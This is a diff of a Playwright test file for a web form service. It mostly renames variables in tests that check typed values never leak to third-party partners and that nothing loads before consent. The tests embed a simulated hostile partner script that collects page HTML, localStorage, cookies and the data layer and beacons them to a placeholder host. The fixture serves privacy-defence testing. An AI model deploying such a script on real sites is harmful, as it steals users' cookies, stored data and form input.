@@ -10,18 +10,18 @@ const partner = 'https://pixel.parceiro.example';
 /** A partner whose script reads everything that it can find and sends it to the partner's server. */
 const hostileScript = `
   const found = { layer: JSON.stringify(window.dataLayer), referrer: document.referrer, address: location.href };
-  for (const [name, look] of Object.entries({
+  for (const [name, read] of Object.entries({
     page: () => parent.document.documentElement.outerHTML,
     storage: () => JSON.stringify(localStorage),
     cookies: () => document.cookie,
-  })) try { found[name] = look(); } catch (error) { found[name] = error.name; }
-  const tell = () => { found.layer = JSON.stringify(window.dataLayer); new Image().src = '${partner}/seen?' + encodeURIComponent(JSON.stringify(found)); };
-  setInterval(tell, 200);
+  })) try { found[name] = read(); } catch (error) { found[name] = error.name; }
+  const send = () => { found.layer = JSON.stringify(window.dataLayer); new Image().src = '${partner}/seen?' + encodeURIComponent(JSON.stringify(found)); };
+  setInterval(send, 200);
   parent.postMessage({ type: 'webviewProps', props: { isWebView: true, topInset: 200 } }, '*');
   setTimeout(() => { throw new Error('a broken partner'); }, 50);
 `;
 
-async function withPartner(page: Page, script: string): Promise<string[]> {
+async function servePartner(page: Page, script: string): Promise<string[]> {
   const requests: string[] = [];
   await page.route(`${partner}/**`, route => {
     requests.push(route.request().url());
@@ -51,18 +51,18 @@ test("[12.10, 12.7, 7.39] typed values go only to the service, even if a partner
 }) => {
   test.slow();
   const { scenario, driver, engine } = await play('happy-path');
-  const places: { source: string; text: string }[] = [];
-  const partnerRequests = await withPartner(page, hostileScript);
+  const exposedTexts: { source: string; text: string }[] = [];
+  const partnerRequests = await servePartner(page, hostileScript);
   context.on('request', request => {
     if (new URL(request.url()).origin === host.url) return;
-    places.push({
+    exposedTexts.push({
       source: `request to ${new URL(request.url()).host}`,
       text: decodeURIComponent(request.url()),
     });
-    places.push({ source: 'headers of a request', text: JSON.stringify(request.headers()) });
-    places.push({ source: 'body of a request', text: request.postData() ?? '' });
+    exposedTexts.push({ source: 'headers of a request', text: JSON.stringify(request.headers()) });
+    exposedTexts.push({ source: 'body of a request', text: request.postData() ?? '' });
   });
-  page.on('console', line => places.push({ source: 'console', text: line.text() }));
+  page.on('console', line => exposedTexts.push({ source: 'console', text: line.text() }));
 
   const typedValues = new Set<string>();
   const walk = scenario.walk.map(action =>
@@ -91,12 +91,12 @@ test("[12.10, 12.7, 7.39] typed values go only to the service, even if a partner
     JSON.stringify((window as { dataLayer?: unknown }).dataLayer),
     location.href,
   ]);
-  for (const text of texts) places.push({ source: 'storage, data layer or address', text });
+  for (const text of texts) exposedTexts.push({ source: 'storage, data layer or address', text });
   expect(typedValues.size).toBeGreaterThan(4);
   for (const value of typedValues)
     for (const spelling of spellingsOf(value))
       expect(
-        places.filter(({ text }) => text.includes(spelling)).map(({ source }) => source),
+        exposedTexts.filter(({ text }) => text.includes(spelling)).map(({ source }) => source),
         spelling,
       ).toEqual([]);
 
@@ -107,8 +107,8 @@ test("[12.10, 12.7, 7.39] typed values go only to the service, even if a partner
     cookies: 'SecurityError',
     referrer: '',
   });
-  const names: string[] = JSON.parse(stolenValues.layer).map(({ event }: { event: string }) => event);
-  expect(names).toEqual(expect.arrayContaining(['sng_step_view', 'form_submit', 'sng_final_page_view']));
+  const eventNames: string[] = JSON.parse(stolenValues.layer).map(({ event }: { event: string }) => event);
+  expect(eventNames).toEqual(expect.arrayContaining(['sng_step_view', 'form_submit', 'sng_final_page_view']));
 });
 
 test('[12.7] before consent nothing is requested from partners, and the consent bar never covers the button', async ({
@@ -117,18 +117,18 @@ test('[12.7] before consent nothing is requested from partners, and the consent 
   host,
 }) => {
   await page.setViewportSize({ width: 360, height: 640 });
-  const requests = await withPartner(page, hostileScript);
+  const requests = await servePartner(page, hostileScript);
   await play('parceiros-permitidos');
   await page.goto(`${host.url}/?agx_hash=6650c1f2a4b3d90012e7f001&campaign=exemplo`);
-  const line = page.getByRole('region', { name: 'Privacidade' });
-  await expect(line).toBeVisible();
+  const consentBar = page.getByRole('region', { name: 'Privacidade' });
+  await expect(consentBar).toBeVisible();
   const button = page.getByRole('button', { name: 'Continuar' });
   await expect(button).toBeInViewport();
-  const [lineBox, buttonBox] = [await line.boundingBox(), await button.boundingBox()];
-  expect((lineBox?.y ?? 0) + (lineBox?.height ?? 0)).toBeLessThanOrEqual(buttonBox?.y ?? 0);
+  const [consentBarBox, buttonBox] = [await consentBar.boundingBox(), await button.boundingBox()];
+  expect((consentBarBox?.y ?? 0) + (consentBarBox?.height ?? 0)).toBeLessThanOrEqual(buttonBox?.y ?? 0);
   expect(requests).toEqual([]);
   await page.getByRole('button', { name: 'Não permitir' }).click();
-  await expect(line).toBeHidden();
+  await expect(consentBar).toBeHidden();
   expect(requests).toEqual([]);
   expect(await page.locator('iframe').count()).toBe(0);
 });
